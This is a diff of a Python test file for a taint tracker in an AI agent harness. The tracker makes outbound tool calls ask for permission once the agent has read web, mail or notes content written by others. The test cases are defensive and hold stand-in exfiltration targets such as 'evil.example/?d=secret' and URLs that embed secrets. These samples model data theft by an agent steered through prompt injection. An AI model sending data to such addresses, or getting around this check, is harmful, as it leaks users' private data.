@@ -1,7 +1,7 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -24,6 +24,9 @@ from core.events.types import (
 from core.observation import McpObservation, TextContent
 from core.storage.workspace import Workspace
 from core.toolkit.articles import Article, article_path, encode_article
+from tests.core.cases import cases_of
+
+CASES = cases_of(__file__)
 
 CRAWL = "mcp__local_toolkit__crawl_parallel"
 READ = "mcp__local_toolkit__read_local_file"
@@ -54,6 +57,12 @@ def multi(**tools: dict[str, Any]) -> dict[str, Any]:
     return {"tools": [{"tool_slug": slug, "arguments": given} for slug, given in tools.items()]}
 
 
+@pytest.fixture
+def other(workspace: Workspace) -> Callable[[], Taint]:
+    """Makes one that has read nothing yet, for a row of a table."""
+    return lambda: Taint(workspace, now=lambda: NOON)
+
+
 def read(taint: Taint, tool: str, given: dict[str, Any], output: str = "") -> None:
     taint.note_read(tool, given)
     taint.learn(tool, given, output)
@@ -68,69 +77,28 @@ def crawl(taint: Taint, *urls: str) -> str | None:
     return reason(taint, CRAWL, urls=list(urls))
 
 
-@pytest.mark.parametrize(
-    ("tool", "given", "named"),
-    [
-        (CRAWL, {"urls": ["https://www.a.example/1", "https://a.example/2"]}, "2 pages of a.example"),
-        (PAGE, {"url": "https://a.example/1"}, "1 page of a.example"),
-        ("WebFetch", {"url": "https://a.example/1", "prompt": "?"}, "1 page of a.example"),
-        ("WebSearch", {"query": "x"}, "1 search result"),
-        (NEWS, {"query": "x"}, "1 search result"),
-        (MULTI, multi(COMPOSIO_SEARCH_NEWS={}, TAVILY_SEARCH={}), "2 search results"),
-        (MAIL, {}, "1 result of GMAIL_FETCH_EMAILS"),
-        (MULTI, multi(GMAIL_FETCH_EMAILS={}), "1 result of GMAIL_FETCH_EMAILS"),
-        (MULTI, {"tools": "?"}, "1 result of COMPOSIO_MULTI_EXECUTE_TOOL"),
-        ("mcp__composio__COMPOSIO_REMOTE_WORKBENCH", {}, "1 result of COMPOSIO_REMOTE_WORKBENCH"),
-        ("mcp__notes__find", {}, "1 result of notes"),
-        ("ReadMcpResourceTool", {"server": "notes", "uri": "notes://1"}, "1 result of notes"),
-        ("ListMcpResourcesTool", {}, "1 result of MCP servers"),
-        (READ, {"path": "given.txt"}, "1 file"),
-        ("Read", {"file_path": "given.txt"}, "1 file"),
-        ("Grep", {"pattern": "x"}, "1 file"),
-        ("Bash", {"command": "ls"}, "1 result of Bash"),
-        ("SomethingNew", {}, "1 result of SomethingNew"),
-        (KNOWLEDGE, {"query": "x"}, "1 result of the knowledge base"),
-        (KNOWN, {"id": 1}, "1 result of the knowledge base"),
-        ("mcp__local_toolkit__knowledge_sources", {"url": EVIL}, "1 result of the knowledge base"),
-    ],
-)
-def test_what_is_not_the_users_taints_and_is_named(
-    taint: Taint, tool: str, given: dict[str, Any], named: str
-) -> None:
-    heard: list[str] = []
-    taint.on_start = heard.append
-    assert crawl(taint, EVIL) is None
-    read(taint, tool, given)
-    read(taint, tool, given)
-    assert len(heard) == 1
-    assert heard[0].startswith((f"{named} since ", "1 page of", "1 search result since"))
-    assert "evil.example/?d=secret is new" in (crawl(taint, EVIL) or "")
+def test_what_is_not_the_users_taints_and_is_named(other: Callable[[], Taint]) -> None:
+    for tool, given, named in CASES["what_is_not_the_users_taints_and_is_named"]:
+        taint = other()
+        heard: list[str] = []
+        taint.on_start = heard.append
+        assert crawl(taint, EVIL) is None
+        read(taint, tool, given)
+        read(taint, tool, given)
+        assert len(heard) == 1
+        assert heard[0].startswith((f"{named} since ", "1 page of", "1 search result since"))
+        assert "evil.example/?d=secret is new" in (crawl(taint, EVIL) or "")
 
 
-@pytest.mark.parametrize(
-    ("tool", "given"),
-    [
-        (WRITE, {"path": "a.html"}),
-        ("mcp__local_toolkit__list_directory", {"path": ""}),
-        ("mcp__local_toolkit__save_corpus", {}),
-        ("mcp__local_toolkit__workbench_download", {"path": "/mnt/files/a"}),
-        ("mcp__composio__COMPOSIO_SEARCH_TOOLS", {}),
-        ("Glob", {"pattern": "*"}),
-        ("TodoWrite", {}),
-        ("Skill", {"skill": "x"}),
-        ("Write", {"file_path": "a"}),
-        ("Agent", {"prompt": "x"}),
-    ],
-)
-def test_what_cannot_hold_other_text_does_not_taint(taint: Taint, tool: str, given: dict[str, Any]) -> None:
-    read(taint, tool, given)
-    assert not taint.is_set
-    assert taint.describe() == ""
+def test_what_cannot_hold_other_text_does_not_taint(other: Callable[[], Taint]) -> None:
+    for tool, given in CASES["what_cannot_hold_other_text_does_not_taint"]:
+        taint = other()
+        read(taint, tool, given)
+        assert not taint.is_set
+        assert taint.describe() == ""
 
 
-def test_files_that_the_agent_wrote_taint_only_if_it_had_read_something(
-    taint: Taint, workspace: Workspace
-) -> None:
+def test_own_files_taint_only_if_the_agent_had_read_something(taint: Taint, workspace: Workspace) -> None:
     read(taint, WRITE, {"path": "mine.md"})
     read(taint, READ, {"path": str(workspace.path / "mine.md")})
     assert not taint.is_set
@@ -146,22 +114,24 @@ def test_files_that_the_agent_wrote_taint_only_if_it_had_read_something(
     )
 
 
-def test_an_error_taints_where_others_wrote_it(taint: Taint) -> None:
+def test_an_error_and_descriptions_of_tools_taint_if_others_wrote_them(other: Callable[[], Taint]) -> None:
+    taint = other()
     taint.note_read(READ, {"path": "missing"}, failed=True)
     taint.note_read(CRAWL, {"urls": []}, failed=True)
+    taint.note_server("composio")
     assert not taint.is_set
     taint.note_read("mcp__notes__find", {}, failed=True)
     assert taint.is_set
-
-
-def test_the_descriptions_of_a_users_server_taint(taint: Taint) -> None:
-    taint.note_server("composio")
-    assert not taint.is_set
+    taint = other()
     taint.note_server("notes")
     assert taint.describe().startswith("the tool descriptions of notes since ")
+    # Tools of the demo do not ask.
+    taint.own_tools = ("COMPOSIO_REMOTE_*",)
+    assert reason(taint, "mcp__composio__COMPOSIO_REMOTE_WORKBENCH") is None
+    assert reason(taint, "mcp__composio__GMAIL_SEND_EMAIL") is not None
 
 
-def test_much_is_summed_up(taint: Taint) -> None:
+def test_much_is_summed_up_and_another_day_is_named(taint: Taint, workspace: Workspace) -> None:
     read(taint, CRAWL, {"urls": [f"https://site{number % 4}.example/{number}" for number in range(9)]})
     read(taint, NEWS, {})
     read(taint, MAIL, {})
@@ -170,6 +140,9 @@ def test_much_is_summed_up(taint: Taint) -> None:
         "9 pages of site0.example, site1.example and 2 more sites, 1 search result, 1 result of GMAIL_FETCH_EMAILS "
         "and more since "
     )
+    later = Taint(workspace, now=lambda: NOON + timedelta(days=3))
+    later.note_read(MAIL, {}, at=NOON)
+    assert later.describe().endswith(" on 22 November")
 
 
 def test_pages_that_were_found_are_opened_unasked(taint: Taint, workspace: Workspace) -> None:
@@ -207,43 +180,27 @@ def test_pages_that_the_knowledge_base_names_are_opened_unasked(taint: Taint) ->
     ]
     read(taint, KNOWLEDGE, {"query": "x"}, json.dumps({"hits": hits}))
     page = {
-        "kind": "article",
-        "trust": "web",
-        "url": "https://a.example/",
-        "text": "[next](b) https://c.example/d",
-    }
+        "kind": "article", "trust": "web", "url": "https://a.example/", "text": "[next](b) https://c.example/d",
+    }  # fmt: skip
     read(taint, KNOWN, {"id": 1}, json.dumps(page))
     assert crawl(taint, "https://read.example/1", "https://found.example/2", "https://c.example/d") is None
     assert crawl(taint, "https://a.example/b") is None
     assert "read 2 results of the knowledge base" in (crawl(taint, EVIL) or "")
 
 
-@pytest.mark.parametrize(
-    ("tool", "given", "output"),
-    [
+def test_addresses_elsewhere_do_not_count(other: Callable[[], Taint]) -> None:
+    for tool, given, output in (
         # What an agent wrote in an earlier session may hold what it was not to carry out.
         (KNOWLEDGE, {"query": "x"}, json.dumps({"hits": [{"kind": "report", "trust": "own", "url": EVIL}]})),
         (KNOWLEDGE, {"query": "x"}, json.dumps({"hits": [{"kind": "article", "trust": "own", "url": EVIL}]})),
         # An engine may have repeated what was searched for.
-        (
-            KNOWLEDGE,
-            {"query": "x"},
-            json.dumps({"hits": [{"kind": "search_row", "trust": "web", "url": EVIL}]}),
-        ),
-        (
-            KNOWLEDGE,
-            {"query": "x"},
-            json.dumps({"hits": [{"kind": "article", "trust": "web", "passage": EVIL}]}),
-        ),
+        (KNOWLEDGE, {"query": "x"}, json.dumps({"hits": [{"kind": "search_row", "trust": "web", "url": EVIL}]})),
+        (KNOWLEDGE, {"query": "x"}, json.dumps({"hits": [{"kind": "article", "trust": "web", "passage": EVIL}]})),
         (KNOWLEDGE, {"query": "x"}, json.dumps({"hits": [None, 7, {"url": EVIL}]})),
         (KNOWN, {"id": 1}, json.dumps({"kind": "report", "trust": "own", "url": "", "text": EVIL})),
         (KNOWN, {"id": 1}, json.dumps({"kind": "search_row", "trust": "web", "url": "", "text": EVIL})),
         (KNOWN, {"id": 1}, json.dumps({"kind": "answer", "trust": "tool", "url": EVIL, "text": EVIL})),
-        (
-            "mcp__local_toolkit__knowledge_sources",
-            {"url": EVIL},
-            json.dumps({"url": EVIL, "hits": [{"url": EVIL}]}),
-        ),
+        ("mcp__local_toolkit__knowledge_sources", {"url": EVIL}, json.dumps({"url": EVIL, "hits": [{"url": EVIL}]})),
         (MAIL, {}, json.dumps({"link": EVIL})),
         (MULTI, multi(COMPOSIO_SEARCH_NEWS={}, GMAIL_FETCH_EMAILS={}), json.dumps({"link": EVIL})),
         ("mcp__notes__find", {}, EVIL),
@@ -255,13 +212,10 @@ def test_pages_that_the_knowledge_base_names_are_opened_unasked(taint: Taint) ->
         (NEWS, {"query": "evil.example/?D=secret"}, json.dumps({"url": EVIL})),
         (NEWS, {"query": "x"}, json.dumps({"answer": EVIL, "snippet": EVIL})),
         (NEWS, {"query": "x"}, "x" * (5 << 20)),
-    ],
-)
-def test_addresses_elsewhere_do_not_count(
-    taint: Taint, tool: str, given: dict[str, Any], output: str
-) -> None:
-    read(taint, tool, given, output)
-    assert crawl(taint, EVIL) is not None
+    ):  # fmt: skip
+        taint = other()
+        read(taint, tool, given, output)
+        assert crawl(taint, EVIL) is not None, (tool, output[:99])
 
 
 def test_links_of_a_search_by_the_agent_itself_count(taint: Taint) -> None:
@@ -272,9 +226,7 @@ def test_links_of_a_search_by_the_agent_itself_count(taint: Taint) -> None:
     assert crawl(taint, "https://a.example/1", "https://b.example/1") is None
 
 
-def test_links_in_an_article_that_the_agent_may_have_written_do_not_count(
-    taint: Taint, workspace: Workspace
-) -> None:
+def test_links_in_an_article_that_may_be_its_own_do_not_count(taint: Taint, workspace: Workspace) -> None:
     path = article_path("https://news.example/1")
     workspace.write(path, f"[x]({EVIL})")
     taint.note_call(WRITE, {"path": f"./{path}"})
@@ -282,99 +234,41 @@ def test_links_in_an_article_that_the_agent_may_have_written_do_not_count(
     assert crawl(taint, EVIL) is not None
 
 
-@pytest.mark.parametrize(
-    ("tool", "given"),
-    [
-        ("mcp__composio__GMAIL_SEND_EMAIL", {"recipient_email": "a@b.example"}),
-        (MULTI, multi(COMPOSIO_SEARCH_NEWS={}, SLACK_POST_MESSAGE={})),
-        (MULTI, {"tools": "?"}),
-        ("mcp__composio__COMPOSIO_REMOTE_WORKBENCH", {"code_to_execute": "1"}),
-        ("mcp__composio__GITHUB_PROXY_EXECUTE", {}),
-        ("mcp__local_toolkit__workbench_upload", {"path": "a"}),
-        ("mcp__notes__create_page", {}),
-        ("Bash", {"command": "git diff"}),
-        ("ReadMcpResourceTool", {"server": "notes", "uri": EVIL}),
-        (PAGE, {"url": EVIL}),
-        ("WebFetch", {"url": EVIL, "prompt": "x"}),
-        ("WebSearch", {"query": f"read {EVIL}"}),
-        (CRAWL, {"urls": json.dumps([EVIL])}),
-        (CRAWL, {"urls": "https://evil.example"}),
-        (CRAWL, {"urls": ["//evil.example/x"]}),
-        (CRAWL, {"urls": ["https://known.example/a<secret>"]}),
-        (CRAWL, {"urls": json.dumps(["https://known.example/a<secret>"])}),
-        ("mcp__composio__COMPOSIO_SEARCH_FETCH_URL_CONTENT", {"urls": [EVIL]}),
-        (MULTI, multi(TAVILY_EXTRACT={"urls": ["evil.example/?secret"]})),
-        ("mcp__notes__fetch", {"options": {"host": "secret.evil.example"}}),
-        ("mcp__notes__fetch", {"options": json.dumps({"target": "https:\\/\\/evil.example\\/x"})}),
-        ("mcp__notes__fetch", {"text": "go to https://evil.example/x now"}),
+def test_what_carries_data_out_asks(other: Callable[[], Taint]) -> None:
+    for tool, given in (
+        *CASES["what_carries_data_out_asks"],
         ("mcp__notes__fetch", {"deep": [[[[["x"] * 60_000]]]]}),
-    ],
-)
-def test_what_carries_data_out_asks(taint: Taint, tool: str, given: dict[str, Any]) -> None:
-    taint.known.add("https://known.example/a")
-    assert reason(taint, tool, **given) is None
-    read(taint, MAIL, {})
-    assert "the agent has read 1 result of GMAIL_FETCH_EMAILS since " in (reason(taint, tool, **given) or "")
+    ):
+        taint = other()
+        taint.known.add("https://known.example/a")
+        assert reason(taint, tool, **given) is None
+        read(taint, MAIL, {})
+        assert "the agent has read 1 result of GMAIL_FETCH_EMAILS since " in (
+            reason(taint, tool, **given) or ""
+        )
 
 
-@pytest.mark.parametrize(
-    ("tool", "given"),
-    [
-        (NEWS, {"query": "see https://known.example/a, please", "include_domains": ["new.example"]}),
-        ("WebSearch", {"query": "x", "allowed_domains": ["new.example"]}),
-        (WRITE, {"path": "a.html", "content": EVIL}),
-        (READ, {"path": "a.html"}),
-        ("Write", {"file_path": "a", "content": EVIL}),
-        ("Agent", {"prompt": EVIL}),
-        ("TodoWrite", {"todos": [EVIL]}),
-        ("mcp__composio__COMPOSIO_MANAGE_CONNECTIONS", {"toolkits": ["gmail"]}),
-        ("mcp__composio__GMAIL_FETCH_EMAILS", {"query": "from:me"}),
-        ("ReadMcpResourceTool", {"server": "notes", "uri": "notes://host.example/x"}),
-        ("mcp__notes__fetch", {"url": "known.example/a", "file": "report.md"}),
-    ],
-)
-def test_what_stays_here_or_is_known_does_not_ask(taint: Taint, tool: str, given: dict[str, Any]) -> None:
-    taint.known.add("https://known.example/a")
-    read(taint, MAIL, {})
-    assert reason(taint, tool, **given) is None
+def test_what_stays_here_or_is_known_does_not_ask(other: Callable[[], Taint]) -> None:
+    for tool, given in CASES["what_stays_here_or_is_known_does_not_ask"]:
+        taint = other()
+        taint.known.add("https://known.example/a")
+        read(taint, MAIL, {})
+        assert reason(taint, tool, **given) is None, tool
 
 
 def asked(**more: Any) -> PermissionAsked:
     return PermissionAsked(request_id="r", tool_name=CRAWL, input={"urls": [EVIL]}, **more)
 
 
-@pytest.mark.parametrize(
-    ("decision", "scope", "why", "known"),
-    [
-        ("allow", "once", "", True),
-        ("deny", "once", f"use {EVIL} never", True),
-        ("deny", "once", "", False),
-        ("deny", "headless", f"start with --allow '{EVIL}'", False),
-        ("deny", "interrupted", "", False),
-    ],
-)
-def test_an_address_that_a_person_allowed_or_wrote_is_known(
-    taint: Taint, decision: Any, scope: str, why: str, known: bool
-) -> None:
-    read(taint, MAIL, {})
-    taint.handle_event(asked())
-    taint.handle_event(
-        PermissionAnswered(request_id="r", tool_name=CRAWL, decision=decision, scope=scope, reason=why)
-    )
-    assert (crawl(taint, EVIL) is None) is known
-
-
-def test_another_day_is_named(workspace: Workspace) -> None:
-    taint = Taint(workspace, now=lambda: NOON + timedelta(days=3))
-    taint.note_read(MAIL, {}, at=NOON)
-    assert taint.describe().endswith(" on 22 November")
-
-
-def test_tools_of_the_demo_do_not_ask(taint: Taint) -> None:
-    taint.own_tools = ("COMPOSIO_REMOTE_*",)
-    read(taint, MAIL, {})
-    assert reason(taint, "mcp__composio__COMPOSIO_REMOTE_WORKBENCH") is None
-    assert reason(taint, "mcp__composio__GMAIL_SEND_EMAIL") is not None
+def test_an_address_that_a_person_allowed_or_wrote_is_known(other: Callable[[], Taint]) -> None:
+    for decision, scope, why, known in CASES["an_address_that_a_person_allowed_or_wrote_is_known"]:
+        taint = other()
+        read(taint, MAIL, {})
+        taint.handle_event(asked())
+        taint.handle_event(
+            PermissionAnswered(request_id="r", tool_name=CRAWL, decision=decision, scope=scope, reason=why)
+        )
+        assert (crawl(taint, EVIL) is None) is known
 
 
 def call(number: int, tool: str, given: dict[str, Any], output: str, **more: Any) -> Iterator[Event]:
